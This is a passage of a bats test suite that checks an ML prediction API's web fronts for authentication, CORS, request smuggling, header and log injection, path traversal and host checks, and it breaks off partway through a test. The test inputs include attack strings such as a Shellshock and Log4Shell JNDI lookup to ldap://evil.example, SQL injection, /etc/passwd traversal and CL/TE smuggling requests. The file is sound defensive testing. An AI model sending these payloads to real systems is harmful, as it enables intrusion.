#!/usr/bin/env bats
# tests/front/secure.bash: what a security test of an API asks, of each front the same: who is
# let in, CORS, security headers, smuggling, injection, hosts, paths, TLS.  The .bats files
# beside it are links to this one and say by their names which front it is, and with -tls
# that it is asked over TLS.
#
# Requests are lines for tests/lib/wire.py, which checks the form of every answer too.
# shellcheck disable=SC2153,SC2154 # what lib/front sets

load ../lib/front

# Keys and open requests are counted by address, and wire has each case come from one of its
# own; 127.0.0.2 is a proxy that is believed.
export SETTINGS='address_rate = 8/60s
trusted_proxies = 127.0.0.2
hosts = localhost, 127.0.0.1, [::1], api.example.org
predict_rows_limit = 3
hsts = 30d'

setup_file() {
  local mode
  mode=$(basename "$BATS_TEST_FILENAME" .bats)
  mode=${mode#secure-}
  case $mode in
  lighttpd*) mode=${mode/lighttpd/lighttpd-socket} ;; # whose workers can be ended apart
  apache-tls) mode=apache-proxy-tls ;;                # apache is mod_fcgid
  esac
  front_setup "$mode"
  cli tier set few --rate 1/60s >/dev/null
  slow
  FEW=$(cli key create --name few --tier few 2>/dev/null)
  TOUR_FAILED=''
  # A model whose image is lost is a 503 of the worker.
  cli model publish lost "$T/iris.fgm" >/dev/null
  mv "$T/home/models/lost/1.fgm" "$T/home/aside"
  tour >"$T/tour" 2>&1
  mv "$T/home/aside" "$T/home/models/lost/1.fgm"
  cli model publish lost "$T/iris.fgm" >/dev/null # so that every worker looks again
  export FEW TOUR_FAILED
}
teardown_file() { front_teardown; }

# Who begins a request, or a body, and says no more; the tests do not wait.
slow() {
  {
    status=0
    wire --seen "$T/seen.slow" <<'END' || status=1
cut | GET /health HTTP/1.1~{H}~X-Slow:
cut | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{"features"
cut | GET
END
    echo "$status" >"$T/slow.status"
  } >"$T/slow" 2>&1 3>&- &
}

# One answer of each status, of workers and of the front itself, for the tests of headers.
tour() {
  wire <<'END' || TOUR_FAILED=1
200 | GET /health HTTP/1.1~{H}~~
200 | HEAD /health HTTP/1.1~{H}~~
200 | GET /health HTTP/1.1~{H}~If-Modified-Since: Fri, 21 Nov 2036 09:00:00 GMT~If-None-Match: *~~
200 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]}
204 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~{H}~Origin: https://app.example.org~Access-Control-Request-Method: POST~~
400 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 1~~{
400 end | NONSENSE~~
401 | GET /models HTTP/1.1~{H}~~
403 | GET /admin/users HTTP/1.1~{H}~X-API-Key: {KEY}~~
404 | GET /nothing HTTP/1.1~{H}~~
405 | GET /predict HTTP/1.1~{H}~~
405 | TRACE /predict HTTP/1.1~{H}~~
413 end | POST /login HTTP/1.1~{H}~{J}~Content-Length: 99999999~~
414/lighttpd:431 end | GET /{a*20000} HTTP/1.1~{H}~~
415 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~Content-Type: text/html~Content-Length: 1~~x
421 | GET /health HTTP/1.1~Host: evil.example~~
422 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 16~~{"features":[5]}
431/apache:400 end | GET /health HTTP/1.1~{H}~X-Long: {a*20000}~~
503 | POST /models/lost/predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]}
END
  wire FEW="$FEW" <<'END' || TOUR_FAILED=1
200 | POST /predict HTTP/1.1~{H}~X-API-Key: {FEW}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]}
END
  wire FEW="$FEW" <<'END' || TOUR_FAILED=1
429 | POST /predict HTTP/1.1~{H}~X-API-Key: {FEW}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]} | ^Retry-After: [0-9]+$
END
  [ -z "$TLS" ] || wire <<'END' || TOUR_FAILED=1
308 plain | GET /health HTTP/1.1~Host: localhost~~
421 plain | GET /health HTTP/1.1~Host: evil.example~~
END
}

# each_has NAME VALUE: every answer so far has this header, once, and with this value.
each_has() {
  local wrong
  wrong=$(jq -c --arg name "$1" --arg value "$2" \
    'select([.headers[] | select(.[0] == $name) | .[1]] != [$value])' "$T/seen")
  [ -s "$T/seen" ]
  if [ -n "$wrong" ]; then printf 'not %s: %s, once:\n%.3000s\n' "$1" "$2" "$wrong" >&2 && return 1; fi
}

tls_only() { [ -n "$TLS" ] || skip 'this one is asked over http'; }

# ---- who is let in ----

@test "the answers of each status have the form that they should" {
  [ -z "$TOUR_FAILED" ] || { cat "$T/tour" >&2 && false; }
}

@test "health is open and well formed" {
  wire <<'END'
200 | GET /health HTTP/1.1~{H}~~ | ^content-type: application/json$ | "status": ?"
200 | GET /health/live HTTP/1.1~{H}~~ | ^content-type: application/json$
200 | GET /health/ready HTTP/1.1~{H}~~ | ^content-type: application/json$
401 | GET /health/detailed HTTP/1.1~{H}~~
END
}

@test "a key that is missing or not valid is one and the same 401, with WWW-Authenticate" {
  local body='{"features":[5.1,3.5,1.4,0.2]}'
  wire BODY="$body" BAD="${KEY%?}$([ "${KEY: -1}" = x ] && echo y || echo x)" P="POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~Content-Length: ${#body}~" <<'END'
401 | {P}~{BODY} | ^WWW-Authenticate: Bearer realm
401 | {P}X-API-Key: {BAD}~~{BODY} | ^WWW-Authenticate: Bearer realm | "detail":"The API key or access token is missing or not valid
401 | {P}X-API-Key:~~{BODY}
401 | {P}X-API-Key: fg_none~~{BODY} | "detail":"The API key or access token is missing or not valid
401 | {P}X-API-Key: {KEY}x~~{BODY}
401 | {P}X-API-Key: {KEY} {KEY}~~{BODY}
401 | {P}X-API-Key: {a*4000}~~{BODY}
401 | {P}X-API-Key: ' OR 1=1 --~~{BODY}
401 | {P}Authorization: Bearer {BAD}~~{BODY}
401 | {P}Authorization: Basic Og==~~{BODY}
401 | {P}Authorization: Bearer eyJhbGciOiJub25lIn0.e30.~~{BODY}
401 | {P}Cookie: X-API-Key={KEY}~~{BODY}
401 | POST /predict?api_key={KEY} HTTP/1.1~{H}~{J}~Content-Length: 30~~{BODY}
END
}

@test "a valid key, its header in any case of letters, or as Bearer, predicts" {
  wire P='POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~Content-Length: 30~' \
    BODY='{"features":[5.1,3.5,1.4,0.2]}' <<'END'
200 | {P}X-API-Key: {KEY}~~{BODY} | "prediction":0
200 | {P}x-api-key: {KEY}~~{BODY} | "prediction":0
200 | {P}X-API-KEY:{KEY}~~{BODY} | "prediction":0
200 | {P}x-ApI-kEy:  {KEY}  ~~{BODY} | "prediction":0
200 | {P}Authorization: Bearer {KEY}~~{BODY} | "prediction":0
200 twice | {P}X-API-Key: {KEY}~~{BODY} | "prediction":0
END
}

@test "a name with _ is another header, and a doubled credential is none" {
  wire P='POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~Content-Length: 30~' \
    BODY='{"features":[5.1,3.5,1.4,0.2]}' <<'END'
401 | {P}X_API_KEY: {KEY}~~{BODY}
401 | {P}X_API-Key: {KEY}~~{BODY}
200 | {P}X_API_KEY: fg_none~X-API-Key: {KEY}~~{BODY}
200 | {P}X-API-Key: {KEY}~X_API_KEY: fg_none~~{BODY}
401 | {P}X-API-Key: fg_none~X_API_KEY: {KEY}~~{BODY}
401 | {P}X_API_KEY: {KEY}~X-API-Key: fg_none~~{BODY}
401 | {P}X-API-Key: {KEY}~X-API-Key: {KEY}~~{BODY}
401 | {P}X-API-Key: {KEY}~X-API-Key: fg_none~~{BODY}
401 | {P}X-API-Key: fg_none~X-API-Key: {KEY}~~{BODY}
401/lighttpd:200 | {P}X-API-Key:~X-API-Key: {KEY}~~{BODY}
401/nginx:400 | {P}Authorization: Bearer {KEY}~Authorization: Bearer {KEY}~~{BODY}
401/nginx:400 | {P}Authorization: Bearer {KEY}~Authorization: Bearer x~~{BODY}
401 | {P}Authorization: Bearer x~X-API-Key: {KEY}~~{BODY}
END
}

@test "the rate of an address is kept, health is exempt, and who has a key and who is elsewhere is not meant" {
  # That addresses are forgotten again is shown by tests/unit/test_ledger_address.c.
  local i
  for i in 1 2 3 4 5 6 7 8; do echo '401 from=127.3.3.3 | GET /models HTTP/1.1~{H}~~'; done | wire
  wire <<'END'
429 from=127.3.3.3 | GET /models HTTP/1.1~{H}~~ | ^Retry-After: [1-9][0-9]*$ | "title":"Too Many Requests"
429 from=127.3.3.3 | GET /nothing HTTP/1.1~{H}~~
429 from=127.3.3.3 | GET /models HTTP/1.1~{H}~X-Forwarded-For: 203.0.113.99~~
200 from=127.3.3.3 | GET /health HTTP/1.1~{H}~~
200 from=127.3.3.3 | GET /models HTTP/1.1~{H}~X-API-Key: {KEY}~~
401 from=127.3.3.4 | GET /models HTTP/1.1~{H}~~
END
}

@test "the test route really predicts, and the status route tells what is offered" {
  wire <<'END'
200 | POST /api/test HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 33~~{"test_name":"x","iterations": 5} | "iterations_completed": ?5|"iterations": ?5
401 | POST /api/test HTTP/1.1~{H}~{J}~Content-Length: 33~~{"test_name":"x","iterations": 5}
200 | GET /api/status HTTP/1.1~{H}~~ | ^content-type: application/json$
200 | GET /api/status HTTP/1.1~{H}~X-API-Key: {KEY}~~ | iris
200 | GET /protected HTTP/1.1~{H}~X-API-Key: {KEY}~~ | "tier": ?"test"
END
}

@test "404, 405, 415 and 422 and invalid JSON are refusals of one form" {
  wire <<'END'
404 | GET /nothing HTTP/1.1~{H}~~
404 | GET /models/nothing HTTP/1.1~{H}~X-API-Key: {KEY}~~
405 | GET /predict HTTP/1.1~{H}~~ | ^Allow: POST$
405 | DELETE /health HTTP/1.1~{H}~~ | ^Allow: GET, HEAD$
405/lighttpd:501 | BREW /health HTTP/1.1~{H}~~
405 | PATCH /predict HTTP/1.1~{H}~Content-Length: 2~~{}
400 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 9~~{"a":1,,}
400 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 0~~
415 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~Content-Type: application/xml~Content-Length: 4~~<a/>
422 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 2~~{} | "errors"
END
}

@test "every answer of a worker has an id and its time; an id is kept if it is fit" {
  wire <<'END'
200 | GET /health HTTP/1.1~{H}~X-Request-ID: abc-1.2_3~~ | ^X-Request-ID: abc-1\.2_3$ | ^X-Process-Time: [0-9]+\.[0-9]+$
404 | GET /nothing HTTP/1.1~{H}~X-Request-ID: n~~ | ^X-Request-ID: n$ | "request_id": ?"n"
200 | GET /health HTTP/1.1~{H}~~ | ^X-Request-ID: [A-Za-z0-9._-]{1,64}$
200 | GET /health HTTP/1.1~{H}~X-Request-ID: {x*65}~~ | !xxxxxx
200 | GET /health HTTP/1.1~{H}~X-Request-ID: a b~~ | !^X-Request-ID: a b
200 | GET /health HTTP/1.1~{H}~X-Request-ID: <script>~~ | !script
200 | GET /health HTTP/1.1~{H}~X-Request-ID: one~X-Request-ID: two~~ | !^X-Request-ID: (one|two)
END
}

@test "settings of forestgate.conf are in force" {
  # trusted_proxies, address_rate, cors_origins and hsts are so by the tests about them.
  wire <<'END'
200 | GET /health HTTP/1.1~Host: api.example.org~~
200 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 45~~{"instances":[[1,2,3,4],[1,2,3,4],[1,2,3,4]]}
422 | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 55~~{"instances":[[1,2,3,4],[1,2,3,4],[1,2,3,4],[1,2,3,4]]} | "field":"instances
200 | GET /health HTTP/1.1~Host: localhost~~
200 | GET /health HTTP/1.1~Host: 127.0.0.1~~
200 | GET /health HTTP/1.1~Host: [::1]~~
421 | GET /health HTTP/1.1~Host: 127.0.0.3~~
END
}

# ---- CORS ----

@test "listed origins are allowed, with credentials, on good answers and on refusals, the front's too" {
  wire O='Origin: https://app.example.org' <<'END'
200 origin=https://app.example.org | GET /health HTTP/1.1~{H}~{O}~~ | ^Vary: .*Origin | ^Access-Control-Expose-Headers: .*X-Request-ID
200 origin=http://localhost:3000 | GET /health HTTP/1.1~{H}~Origin: http://localhost:3000~~
200 origin=https://app.example.org | POST /predict HTTP/1.1~{H}~{O}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]}
401 origin=https://app.example.org | GET /models HTTP/1.1~{H}~{O}~~ | ^Access-Control-Expose-Headers: .*WWW-Authenticate
404 origin=https://app.example.org | GET /nothing HTTP/1.1~{H}~{O}~~
413 origin=https://app.example.org end | POST /login HTTP/1.1~{H}~{O}~{J}~Content-Length: 99999999~~ | ^Access-Control-Expose-Headers:
421 origin=https://app.example.org | GET /health HTTP/1.1~Host: evil.example~{O}~~
200 origin=https://app.example.org | GET / HTTP/1.1~{H}~{O}~~ | ^Vary:.*Accept | ^Vary:.*Origin
END
}

@test "any other origin gets no CORS header, however like a listed one it is" {
  local origin
  for origin in https://evil.example https://app.example.org.evil https://evilapp.example.org null http://app.example.org \
    https://app.example.org:8443 https://app.example.org:443 HTTPS://APP.EXAMPLE.ORG https://app.example.ORG \
    https://app.example.org. https://app.example.org/ https://xapp.example.org https://appxexample.org '*' \
    https://app.example.org,https://evil.example 'https://app.example.org https://evil.example' http://localhost:3001 \
    http://localhost https://app.example.org@evil.example 'https://app.example.org%00.evil' ''; do
    echo "200 | GET /health HTTP/1.1~{H}~Origin: $origin~~ | ^Vary: .*Origin"
    echo "405 | OPTIONS /predict HTTP/1.1~{H}~Origin: $origin~Access-Control-Request-Method: POST~~"
  done >"$BATS_TEST_TMPDIR/cases"
  wire <"$BATS_TEST_TMPDIR/cases"
  wire <<'END'
200 origin=any | GET /health HTTP/1.1~{H}~Origin: https://app.example.org~Origin: https://evil.example~~ | !^Access-Control-Allow-Origin: .*evil
200 origin=any | GET /health HTTP/1.1~{H}~Origin: https://evil.example~Origin: https://app.example.org~~ | !^Access-Control-Allow-Origin: .*evil
END
}

@test "a preflight is the front's 204: methods, headers, ten minutes; it costs nothing and needs no key" {
  local before after
  before=$(grep -c ' OPTIONS ' "$T/home/logs/access.log" || :)
  wire A='Access-Control-Request-Method' <<'END'
204 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~{H}~Origin: https://app.example.org~{A}: POST~Access-Control-Request-Headers: x-api-key,content-type~~ | ^Access-Control-Allow-Methods: GET, HEAD, POST, PUT, DELETE$ | ^Access-Control-Allow-Headers: .*X-API-Key | ^Access-Control-Max-Age: 600$ | ^Vary: .*Origin | !^X-Request-ID
204 origin=http://localhost:3000 | OPTIONS /nothing/there HTTP/1.1~{H}~Origin: http://localhost:3000~{A}: DELETE~~
204 origin=https://app.example.org twice | OPTIONS /users/me HTTP/1.1~{H}~Origin: https://app.example.org~{A}: PUT~~
421 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~Host: evil.example~Origin: https://app.example.org~{A}: POST~~
END
  after=$(grep -c ' OPTIONS ' "$T/home/logs/access.log" || :)
  [ "$before" = "$after" ]
  # Not one, so the worker's.
  wire <<'END'
405 | OPTIONS /predict HTTP/1.1~{H}~~ | ^Allow: POST$
405 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~{H}~Origin: https://app.example.org~~ | ^Allow: POST$
405 | OPTIONS /predict HTTP/1.1~{H}~Access-Control-Request-Method: POST~~
END
  # About the whole server some servers answer by themselves, with nothing of the service.
  wire <<'END'
400 | OPTIONS * HTTP/1.1~{H}~~ | !^X-Request-ID
END
}

# ---- smuggling: one request is one answer, and what is behind a refused one is nobody's ----

@test "two lengths, and a length with a coding, are refused and end the connection" {
  # Of a length and a coding Apache takes the coding, and ends the connection (RFC 9112, 6.1): the
  # body is empty then, which is a 400 as well.
  wire P="POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~X-API-Key: $KEY~" \
    S='GET /smuggled HTTP/1.1~Host: localhost~~' <<'END'
400 end | {P}Content-Length: 5~Transfer-Encoding: chunked~~0~~{S}
400 end | {P}Transfer-Encoding: chunked~Content-Length: 5~~0~~{S}
400 end | {P}Content-Length: 0~Transfer-Encoding: chunked~~0~~{S}
400 end | {P}Content-Length: 5~Content-Length: 6~~hello{S}
400 end | {P}Content-Length: 5~Content-Length: 0~~{S}
400 end | {P}Content-Length: 5, 6~~hello{S}
400 end | {P}Content-Length: +5~~hello{S}
400 end | {P}Content-Length: -1~~{S}
400 end | {P}Content-Length: 0x5~~hello{S}
400 end | {P}Content-Length: 5 5~~hello{S}
400 end | {P}Content-Length: five~~hello{S}
400 end | {P}Content-Length: 5.0~~hello{S}
400 end | {P}Content-Length: 99999999999999999999999~~{S}
400 end | {P}Content-Length : 5~~hello{S}
400 end | {P}Content-Length:\x0b5~~hello{S}
END
}

@test "codings that are not just chunked are refused and end the connection" {
  wire P='POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~' \
    S='GET /smuggled HTTP/1.1~Host: localhost~~' <<'END'
400/lighttpd:501 end | {P}Transfer-Encoding: xchunked~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: chunkedx~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: identity~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: gzip, chunked~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: chunked, identity~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: chunked~Transfer-Encoding: identity~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: identity~Transfer-Encoding: chunked~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: chunked~Transfer-Encoding: x~~0~~{S}
400/lighttpd:501 end | {P}Transfer-Encoding: "chunked"~~0~~{S}
400 end | {P}Transfer-Encoding: \x0bchunked~~0~~{S}
400 end | {P}Transfer-Encoding : chunked~~0~~{S}
400 end | {P}Transfer-Encoding\x00: chunked~~0~~{S}
400/lighttpd:411 end | {P}Transfer-Encoding:~~0~~{S}
END
  # Folded lines are refused, or joined to the line before: one request all the same.
  wire P='POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~' <<'END'
400/lighttpd:501/apache:401 | {P}Transfer-Encoding:~ chunked~~0~~
400/lighttpd:411/apache:401 | {P}X: y~ Transfer-Encoding: chunked~~
400/lighttpd:411/apache:401 | {P}X: y~\tContent-Length: 5~~
END
}

@test "chunks that are none are refused and end the connection, or are read by the letter" {
  wire P='POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~X-API-Key: '"$KEY"'~Transfer-Encoding: chunked~~' \
    S='GET /smuggled HTTP/1.1~Host: localhost~~' BODY='{"features":[5.1,3.5,1.4,0.2]}' <<'END'
200 | {P}1e~{BODY}~0~~
200 | {P}1E;name=value~{BODY}~0~~
200,200 | {P}1e~{BODY}~0~~GET /health HTTP/1.1~Host: localhost~~
400 end | {P}zz~{BODY}~0~~{S}
400 end | {P}-1e~{BODY}~0~~{S}
400 end | {P}0x1e~{BODY}~0~~{S}
400/apache-proxy:413 end | {P}fffffffffffffffff~{BODY}~0~~{S}
400/apache-proxy:413 end | {P}100000000000000000000001e~{BODY}~0~~{S}
400 end | {P}1e~{BODY}0~~{S}
400 end | {P}~1e~{BODY}~0~~{S}
END
  # Behind a chunk that is longer than it says mod_fcgid takes what there is, and then it is over.
  wire P="POST /predict HTTP/1.1~Host: localhost~Content-Type: application/json~X-API-Key: $KEY~Transfer-Encoding: chunked~~" \
    S='GET /smuggled HTTP/1.1~Host: localhost~~' BODY='{"features":[5.1,3.5,1.4,0.2]}' <<'END'
400/apache:200/apache-proxy:400 end | {P}1~{BODY}~0~~{S}
END
}

@test "a request behind a refused body, one that is too large or not asked for, is not answered" {
  wire S='GET /smuggled HTTP/1.1~Host: localhost~~' <<'END'
413 end | POST /login HTTP/1.1~{H}~{J}~Content-Length: 99999999~~{S}
401 | POST /predict HTTP/1.1~{H}~{J}~Content-Length: 43~~{S}
404 | GET /nothing HTTP/1.1~{H}~Content-Length: 43~~{S}
404 | GET /nothing HTTP/1.1~{H}~Content-Length: 43~Connection: close~~{S}
END
}

# ---- injection ----

@test "CR, LF and NUL in names and values are refused and end the connection" {
  wire S='GET /smuggled HTTP/1.1~Host: localhost~~' <<'END'
400 end | GET /health HTTP/1.1~{H}~X-A: b\0c~~{S}
400 end | GET /health HTTP/1.1~{H}~X-A: b\rc~~{S}
400 end | GET /health HTTP/1.1~ X-A: b~{H}~~{S}
400 end | GET /health HTTP/1.1~{H}~X A: b~~{S}
400 end | GET /health HTTP/1.1~{H}~X-A : b~~{S}
400 end | GET /health HTTP/1.1~{H}~X\0A: b~~{S}
400 end | GET /health HTTP/1.1~{H}~: b~~{S}
400 end | GET /health HTTP/1.1~{H}~no colon~~{S}
400 end | GET /health HTTP/1.1x~{H}~~{S}
400 end | GET /health HTTQ/1.1~{H}~~{S}
END
  wire <<'END'
400 | GET /he\0alth HTTP/1.1~{H}~~
400 | GET /he\ralth HTTP/1.1~{H}~~
400 | GET /health?\0 HTTP/1.1~{H}~~
END
  # What a server may read as it is meant: folded lines are joined (RFC 9112, 5.2), there may be
  # two blanks (3), or a path with one, or one CR more before the LF.
  wire <<'END'
400 | GET  /health HTTP/1.1~{H}~~
505 | GET /health HTTP/9.9~{H}~~
400/nginx:200 | GET /health HTTP/1.1~{H}~X-A: b\r\r\n~
200/nginx:400 | GET /health HTTP/1.1~{H}~X-A: b~ folded~~
200/nginx:400 | GET /health HTTP/1.1~{H}~X-A: b~\tContent-Length: 5~~
401/nginx:400 | GET /models HTTP/1.1~{H}~X-A: b~ X-API-Key: {KEY}~~
400 | GET /he alth HTTP/1.1~{H}~~
END
}

@test "nothing of a client's text becomes a header, or a line of a log" {
  local first='{"username":"a\r\n2026-11-21T09:01:34Z info root@example.org","password":"a bicycle for 7"}'
  local second='{"username":"\u001b[2Jx@example.org","password":"a bicycle for 7"}'
  # A control character in a header is refused by the front, and what nginx lets pass by the
  # worker; but not in one that nginx hands to nobody.
  wire P='POST /login HTTP/1.1~Host: localhost~Content-Type: application/json~Content-Length: ' \
    FIRST="${#first}~~${first//\\/\\\\}" SECOND="${#second}~~${second//\\/\\\\}" <<'END'
400/nginx:200 | GET /health HTTP/1.1~{H}~User-Agent: \e[31mred\x07\x1b]0;t\x07~~
200 | GET /health HTTP/1.1~{H}~User-Agent: () { :; }; echo "x" ${jndi:ldap://evil.example/a}~~
400 | GET /health HTTP/1.1~{H}~X-Request-ID: a\e[2Jb~~ | !\x1b
200 | GET /health HTTP/1.1~{H}~X-Request-ID: a%0d%0aSet-Cookie: x=1~~ | !Set-Cookie
200 | GET /health HTTP/1.1~{H}~X-Request-ID: a\xe2\x80\xa8b~~
400 | GET /models HTTP/1.1~{H}~X-API-Key: a\e[2Jb~~
400 | GET /health HTTP/1.1~{H}~X-A: a\x7fb~~
200 | GET /health HTTP/1.1~{H}~X-A: a\tb~~
401 | GET /models HTTP/1.1~{H}~X-API-Key: a" 200 "b~~
404 | GET /%0d%0aSet-Cookie:%20x=1 HTTP/1.1~{H}~~ | !^Set-Cookie
404 | GET /a%0a2026-11-21T09:01:34.575Z%20info%20127.0.0.1%20POST HTTP/1.1~{H}~~
400 | GET /\e[31mred HTTP/1.1~{H}~~ | !\x1b
404 | GET /%1b%5b31mred HTTP/1.1~{H}~~ | !\x1b
404 | GET /"quoted\x5c HTTP/1.1~{H}~~
404 | GET /\xff\xfe\xc3\xbc HTTP/1.1~{H}~~
400 | GET /health?\e[31m HTTP/1.1~{H}~~
401 | {P}{FIRST}
401 | {P}{SECOND}
400/lighttpd:501 | BREW /models HTTP/1.1~{H}~X-API-Key: x~Referer: \e[2J~~
END
}

@test "headers that would change the method, the path or a proxy change nothing" {
  wire <<'END'
405 | GET /predict HTTP/1.1~{H}~X-HTTP-Method-Override: POST~X-HTTP-Method: POST~X-Method-Override: POST~~ | ^Allow: POST$
405 | GET /predict?_method=POST HTTP/1.1~{H}~~ | ^Allow: POST$
405 | POST /health HTTP/1.1~{H}~X-HTTP-Method-Override: GET~Content-Length: 0~~ | ^Allow: GET, HEAD$
405 | POST /health HTTP/1.1~{H}~Content-Type: application/x-www-form-urlencoded~Content-Length: 11~~_method=GET
404 | GET /nothing HTTP/1.1~{H}~X-Original-URL: /health~X-Rewrite-URL: /health~X-Forwarded-Prefix: /health~~
200 | GET /health HTTP/1.1~{H}~Proxy: http://evil.example:8080/~~
200 | GET /health HTTP/1.1~{H}~Range: bytes=0-3~~ | "status"
401 | GET /models HTTP/1.1~{H}~Remote-User: root~X-Remote-User: root~X-Forwarded-User: root~REMOTE_USER: root~~
END
}

@test "TRACE, TRACK and CONNECT are refused and echo nothing" {
  wire <<'END'
405 | TRACE /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
405 | TRACE / HTTP/1.1~{H}~X-API-Key: {KEY}~X-Echo: parrot~~ | !parrot
405/lighttpd:501 | TRACK /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
405/apache:400 | CONNECT /health HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
400/apache:421 | CONNECT evil.example:443 HTTP/1.1~Host: evil.example:443~X-Echo: parrot~~ | !parrot
400/apache:405 | CONNECT localhost:80 HTTP/1.1~{H}~X-Echo: parrot~~ | !parrot
END
}

# ---- addresses ----

# What the access log says of a request is the address that counts.
logged_address() { awk -v id="$1" '$8 == id {print $3}' "$T/home/logs/access.log"; }

@test "forwarded addresses are believed of trusted proxies alone, and of X-Forwarded-For alone" {
  wire <<'END'
401 from=127.0.0.2 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-1~X-Forwarded-For: 203.0.113.7~~
401 from=127.0.0.2 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-2~X-Forwarded-For: 203.0.113.9, 198.51.100.1~~
401 from=127.0.0.2 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-3~X-Forwarded-For: 203.0.113.8, 127.0.0.2~~
401 from=127.0.0.5 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-4~X-Forwarded-For: 203.0.113.7~~
401 from=127.0.0.5 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-5~X-Forwarded-For: 127.0.0.2~~
401 from=127.0.0.5 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-6~Forwarded: for=203.0.113.7~X-Real-IP: 203.0.113.7~X-Client-IP: 203.0.113.7~True-Client-IP: 203.0.113.7~CF-Connecting-IP: 203.0.113.7~~
401 from=127.0.0.2 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-7~Forwarded: for=203.0.113.7~X-Real-IP: 203.0.113.7~REMOTE_ADDR: 203.0.113.7~~
401 from=127.0.0.2 | GET /models HTTP/1.1~{H}~X-Request-ID: addr-8~X_Forwarded_For: 203.0.113.7~X-Forwarded-For: 198.51.100.1~~
END
  [ "$(logged_address addr-1)" = 203.0.113.7 ]
  [ "$(logged_address addr-2)" = 198.51.100.1 ]
  [ "$(logged_address addr-3)" = 203.0.113.8 ]
  for i in 4 5 6; do [ "$(logged_address addr-$i)" = 127.0.0.5 ]; done
  [ "$(logged_address addr-7)" = 127.0.0.2 ]
  # With _ it is another header, or behind lighttpd the same one twice, which is not believed.
  [[ "$(logged_address addr-8)" =~ ^(198\.51\.100\.1|127\.0\.0\.2)$ ]]
}

# ---- paths and hosts ----

@test "path tricks are the same refusals everywhere" {
  local path
  {
    # The worker's.
    while read -r path; do
      echo "404 | POST $path HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{\"features\":[5.1,3.5,1.4,0.2]} | ^X-Request-ID:"
    done <<'END'
//predict
/./predict
/x/../predict
/models/../predict
/models/iris/../iris/predict
/x/..%2fpredict
/%2e/predict
/x/%2e%2e/predict
/x/%252e%252e/predict
/predict%2500
/models%2firis%2fpredict
/models/iris%2fpredict
/predict%2f
/predict/
/predict/.
/predict;x=1
/predict%20
/predict%3f
/predict%23
/Predict
/PREDICT
/%70redict
/models/iris//predict
///predict
/predict.json
/predict~
/index.html
/.git/config
/.htaccess
/errors/404.html
/forestgate.conf
/forestgate.db
/front.conf
/server-status
/server-info
/nginx_status
/cgi-bin/test
/\x5cpredict
/predict\x5c
/x%5c..%5cpredict
END
    # What can be no path, by whoever finds it out first; a NUL, and what would be a .. above the root
    # if it were decoded, is for nginx none, and for the others one that is not there.
    while read -r want path; do
      echo "$want | POST $path HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{\"features\":[5.1,3.5,1.4,0.2]}"
    done <<'END'
400 /../predict
400 /%2e%2e/predict
400 /x/../../predict
400 /%zz
400 /%
400 /predict%
400 /predict%u0030
400 /../../../../etc/passwd
400 predict
400 *
400 /predict#x
404 /%c0%ae%c0%ae/predict
404 /.errors/404.json
404 /.errors/404.html
404/nginx:400 /predict%00
404/nginx:400 /%00
404/nginx:400 /%2e%2e%2f%2e%2e%2fetc%2fpasswd
400/apache:404 ?x
END
  } >"$BATS_TEST_TMPDIR/cases"
  sed -i 's|predict~ HTTP|predict\\~ HTTP|' "$BATS_TEST_TMPDIR/cases"
  wire <"$BATS_TEST_TMPDIR/cases"
  # A query is no path.
  wire <<'END'
200 | GET /health?/../../etc/passwd HTTP/1.1~{H}~~
200 | GET /health?--version HTTP/1.1~{H}~~
200 | GET /health?%00%zz HTTP/1.1~{H}~~
END
}

@test "only trusted hosts are answered, whatever else names another" {
  wire <<'END'
200 | GET /health HTTP/1.1~Host: localhost~~
200 | GET /health HTTP/1.1~Host: localhost:1~~
